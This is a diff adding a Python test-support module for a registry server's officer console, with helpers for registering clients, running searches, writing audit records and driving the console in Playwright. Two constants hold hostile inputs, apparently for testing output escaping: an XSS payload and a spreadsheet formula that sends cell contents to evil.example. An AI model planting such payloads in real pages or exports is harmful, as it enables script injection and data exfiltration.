@@ -1,0 +1,122 @@
+"""What officers look at in the console: clients, searches, audit records and records of a server of `dci serve`."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import time
+import uuid
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING, Any
+
+from dci_cli.local_server import local_environment
+from dci_common.clients.registration import NewClient, register
+from dci_common.runtime import Runtime
+from dci_common.settings import Settings
+from support.api import identified
+from support.console_browser import settled
+from support.events import body_of
+from support.overseeing import disclosed, withhold
+from support.server_process import ServerProcess, command, eventually
+from support.stored_items import items_of, tests_client
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Page
+
+DAY = 86_400
+UIN = "847951632"  # of the demo person p0001, of the household h0001
+HOSTILE = """"><img src=x onerror="globalThis.hit=1"><script>globalThis.hit=2</script>${hit}'"""
+FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
+Item = dict[str, Any]
+
+
+@dataclass
+class Office:
+    """A server, and what is put into it. `clients` has the id and the secret of each client by its name."""
+
+    server: ServerProcess
+    clients: dict[str, tuple[str, str]] = field(default_factory=dict)
+
+    @contextmanager
+    def runtime(self) -> Iterator[Runtime]:
+        """Yield what the functions use, at the server's own tables."""
+        with local_environment(self.server.credentials_file):
+            names = ("clients", "registry", "exchange", "audit")
+            yield Runtime(Settings(**{f"{name}_table": os.environ[f"{name.upper()}_TABLE"] for name in names}))
+
+    def register(self, name: str = "", **members: Any) -> str:
+        """Register a client as its deployer does, and return its id."""
+        named = name or f"Office {uuid.uuid4().hex[:8]}"
+        given = {"sender_id": "office", "scopes": ("registry.search",), "disclosure": ("minimal",)} | members
+        with self.runtime() as runtime:
+            client, secret = register(runtime, NewClient(name=named, **given))
+        self.clients[named] = client.client_id, secret
+        return client.client_id
+
+    def name_of(self, client_id: str) -> str:
+        """Return the name of a client that was registered here."""
+        return next(name for name, (id_, _) in self.clients.items() if id_ == client_id)
+
+    def search(self, name: str, uin: str = UIN, **criteria: Any) -> None:
+        """Have a client search for a person, and wait until the disclosure is in the history of the person."""
+        client_id, secret = self.clients[name]
+        form = f"grant_type=client_credentials&client_id={client_id}&client_secret={secret}"
+        token = self.server.send("POST", "/oauth2/client/token", form).json["access_token"]
+        message = body_of("search")
+        message["header"]["sender_id"] = "office"
+        message["message"]["search_request"] = [identified("UIN", uin, **criteria)]
+        sent = self.server.send("POST", "/registry/sync/search", message, Authorization=f"Bearer {token}")
+        assert sent.status == 200, sent.text
+        eventually(lambda: any(item.get("client_id") == {"S": client_id} for item in self.history("PERSON#p0001")))
+
+    def history(self, key: str) -> list[Item]:
+        """Return the entries of a record in the index of the audit."""
+        with self.runtime() as runtime:
+            return items_of(runtime.settings.audit_table, f"RECORD#{key}")
+
+    def audited(self, number: int, *keys: str, is_withheld: bool = False, **more: Item) -> None:
+        """Put an audit item of some minutes ago, and that it was withheld if it was."""
+        with self.runtime() as runtime:
+            item = disclosed(runtime, time.time() - 60 * number, number, *keys, **more)
+            if is_withheld:
+                withhold(runtime, item)
+
+    def received(self, client_id: str, date: str, records: int) -> None:
+        """Put what a client received on a day."""
+        item = {"pk": {"S": f"RATE#{client_id}"}, "sk": {"S": f"DAY#{date}"}, "records": {"N": str(records)}}
+        with self.runtime() as runtime:
+            tests_client().put_item(TableName=runtime.settings.exchange_table, Item=item)
+
+    def put(self, *records: Item) -> None:
+        """Have an operator put records by the command line, which is recorded."""
+        arguments, variables = command("registry", "put", "-", "--credentials", str(self.server.credentials_file))
+        lines = "\n".join(map(json.dumps, records))
+        subprocess.run(arguments, env=variables, input=lines, text=True, check=True, capture_output=True)  # noqa: S603
+
+    def ask(self, token: str, client_id: str, **changes: Any) -> str:
+        """Ask for a change of a client that waits, and return the id of the approval."""
+        found = self.server.send("GET", f"/clients/{client_id}", Authorization=token)
+        asked = self.server.send(
+            "PATCH", f"/clients/{client_id}", changes, Authorization=token, **{"If-Match": found.headers["ETag"]}
+        )
+        assert asked.status == 202, asked.text
+        return str(asked.json["approval_id"])
+
+
+def authorization(page: Page) -> str:
+    """Return the header with which the page of a person asks the API."""
+    with page.expect_request(lambda request: "authorization" in request.headers) as found:
+        page.reload()
+    settled(page)
+    return str(found.value.headers["authorization"])
+
+
+def find(page: Page, identifier: str = UIN, type_: str = "UIN", *, button: str = "Show who saw it") -> None:
+    """Fill in the form of a page that finds a record, and send it."""
+    page.get_by_label("Type of identifier").fill(type_)
+    page.get_by_label("Identifier", exact=True).fill(identifier)
+    page.get_by_role("button", name=button).click()
+    settled(page)
